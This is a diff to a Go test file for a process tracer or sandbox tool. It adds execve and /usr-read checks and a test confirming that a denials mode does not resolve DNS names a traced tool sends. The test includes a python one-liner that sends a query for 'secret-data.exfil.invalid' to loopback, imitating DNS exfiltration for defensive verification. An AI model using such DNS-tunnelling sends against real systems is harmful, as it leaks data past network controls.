@@ -3,13 +3,20 @@
 package learn
 
 import (
+	"context"
+	"encoding/hex"
+	"errors"
 	"net"
+	"net/netip"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"slices"
 	"strconv"
+	"strings"
 	"testing"
+
+	"golang.org/x/net/dns/dnsmessage"
 )
 
 // The test binary is its own stub, as jp-policy is.
@@ -48,6 +55,9 @@ func TestTraceFiles(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
+	if err := os.WriteFile(filepath.Join(dir, "tool.sh"), []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
 	script := `cat in.txt >/dev/null
 mkdir sub
 echo new > sub/made.txt
@@ -58,6 +68,7 @@ ln -s in.txt link
 cat link >/dev/null
 (cd sub && cat moved.txt >/dev/null)
 cat missing.txt 2>/dev/null
+./tool.sh
 exit 3`
 	res := observe(t, dir, sh, "-c", script)
 	if res.ExitCode != 3 {
@@ -91,8 +102,13 @@ exit 3`
 	if has(res.Obs, j("missing.txt"), OpRead) {
 		t.Error("a failed open was recorded")
 	}
-	if !slices.ContainsFunc(res.Obs.Files, func(fa FileAccess) bool { return fa.Op&OpExecute != 0 && filepath.Base(fa.Path) == "cat" }) {
-		t.Error("the execve of cat was not recorded")
+	if !has(res.Obs, j("tool.sh"), OpExecute) {
+		t.Error("the execve of a program in the workspace was not recorded")
+	}
+	// The system's own programs and libraries are exec's baseline: their
+	// reads are not recorded (nor worth a stop at their exit).
+	if slices.ContainsFunc(res.Obs.Files, func(fa FileAccess) bool { return strings.HasPrefix(fa.Path, "/usr/") }) {
+		t.Error("a read of a system file under /usr was recorded")
 	}
 }
 
@@ -206,5 +222,51 @@ func TestTraceForeignABI(t *testing.T) {
 	}
 	if res := observe(t, dir, "/bin/true"); res.ForeignABI {
 		t.Error("a native run was reported as using another ABI")
+	}
+}
+
+// TestDenialsResolveNothing: under exec --denials the traced command is
+// a sandboxed tool, and a name it sends to a resolver must not be looked
+// up from outside the sandbox (the lookup carries the name to the
+// network). Positive control: learn, observing the same command, does
+// look it up, to name the connection.
+func TestDenialsResolveNothing(t *testing.T) {
+	py, err := exec.LookPath("python3")
+	if err != nil {
+		t.Skip("no python3 to send a DNS query")
+	}
+	if err := Supported(); err != nil {
+		t.Skip(err)
+	}
+	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 1, RecursionDesired: true})
+	b.StartQuestions()
+	b.Question(dnsmessage.Question{Name: dnsmessage.MustNewName("secret-data.exfil.invalid."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET})
+	q, err := b.Finish()
+	if err != nil {
+		t.Fatal(err)
+	}
+	// Sent to port 53 of loopback, where nothing need listen: the send is
+	// what the tracer reads.
+	script := "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n" +
+		"s.sendto(bytes.fromhex('" + hex.EncodeToString(q) + "'), ('127.0.0.1', 53))\n"
+	for _, denials := range []bool{true, false} {
+		var asked []string
+		lookup := func(_ context.Context, _, host string) ([]netip.Addr, error) {
+			asked = append(asked, host)
+			return nil, errors.New("no")
+		}
+		res, err := run([]string{py, "-c", script}, t.TempDir(), os.Environ(), denials, lookup)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if res.ExitCode != 0 {
+			t.Fatalf("python exited %d", res.ExitCode)
+		}
+		if !denials && !slices.Contains(asked, "secret-data.exfil.invalid") {
+			t.Errorf("learn did not look up the queried name (asked %q)", asked)
+		}
+		if denials && len(asked) > 0 {
+			t.Errorf("exec --denials looked up %q", asked)
+		}
 	}
 }
